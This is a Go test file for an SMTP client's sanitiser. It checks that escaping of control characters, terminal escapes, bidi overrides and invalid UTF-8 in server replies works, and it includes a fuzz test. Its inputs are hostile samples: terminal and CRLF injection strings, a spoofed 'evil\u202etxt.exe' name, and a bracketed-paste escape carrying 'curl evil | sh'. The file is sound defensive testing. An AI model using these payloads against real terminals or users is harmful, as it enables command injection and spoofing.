package smtpclient

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestPrintableShowsControlsAndKeepsOrdinaryText(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"plain ASCII is kept", "250 2.0.0 Ok: queued as 4F2", "250 2.0.0 Ok: queued as 4F2"},
		{"Chinese and accents are kept", "250 发送成功 café", "250 发送成功 café"},
		{"emoji are kept", "250 ok 📮", "250 ok 📮"},
		{"a terminal escape is shown", "220 hi \x1b[2J\x1b]0;pwned\x07", `220 hi \x1b[2J\x1b]0;pwned\x07`},
		{"CR and LF cannot make a second line", "454 x\r\n<- 250 fake", `454 x\x0d\x0a<- 250 fake`},
		{"tab and NUL and DEL", "a\tb\x00c\x7f", `a\x09b\x00c\x7f`},
		{"C1 controls", "a\u009bb\u0085", `a\u009bb\u0085`},
		{"bidi override and isolates", "evil\u202Etxt.exe \u2066x\u2069", `evil\u202etxt.exe \u2066x\u2069`},
		{"zero-width and BOM", "pay\u200bpal\ufeff", `pay\u200bpal\ufeff`},
		{"line separators", "a\u2028b\u2029c", `a\u2028b\u2029c`},
		{"bytes that are not UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
		{"the bracketed-paste terminator", "220 \x1b[201~\rcurl evil | sh\r", `220 \x1b[201~\x0dcurl evil | sh\x0d`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Printable(tc.in)
			if got != tc.want {
				t.Fatalf("Printable(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if again := Printable(got); again != got {
				t.Fatalf("not idempotent: %q -> %q", got, again)
			}
		})
	}
}

func TestFormatLineNeverBreaksALine(t *testing.T) {
	for dir, prefix := range map[Direction]string{Client: "-> ", Server: "<- ", Local: "=== "} {
		got := FormatLine(dir, "250 ok\n<- 250 forged\r")
		if !strings.HasPrefix(got, prefix) || strings.ContainsAny(got, "\r\n") {
			t.Fatalf("FormatLine(%v) = %q", dir, got)
		}
	}
}

func FuzzPrintable(f *testing.F) {
	for _, s := range []string{"250 ok", "\x1b[31m", "\u202e", "发送", "\xff\xfe", "a\r\nb"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		p := Printable(s)
		if !utf8.ValidString(p) {
			t.Fatalf("Printable(%q) = %q is not UTF-8", s, p)
		}
		for _, r := range p {
			if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x2028 || r == 0x2029 ||
				unicode.Is(unicode.Cf, r) || unicode.Is(unicode.Cc, r) {
				t.Fatalf("Printable(%q) = %q keeps %U", s, p, r)
			}
		}
		if Printable(p) != p {
			t.Fatalf("not idempotent on %q", s)
		}
		if utf8.ValidString(s) && !strings.ContainsFunc(s, func(r rune) bool { return needsEscape(r, utf8.RuneLen(r)) }) && p != s {
			t.Fatalf("changed clean text %q to %q", s, p)
		}
	})
}
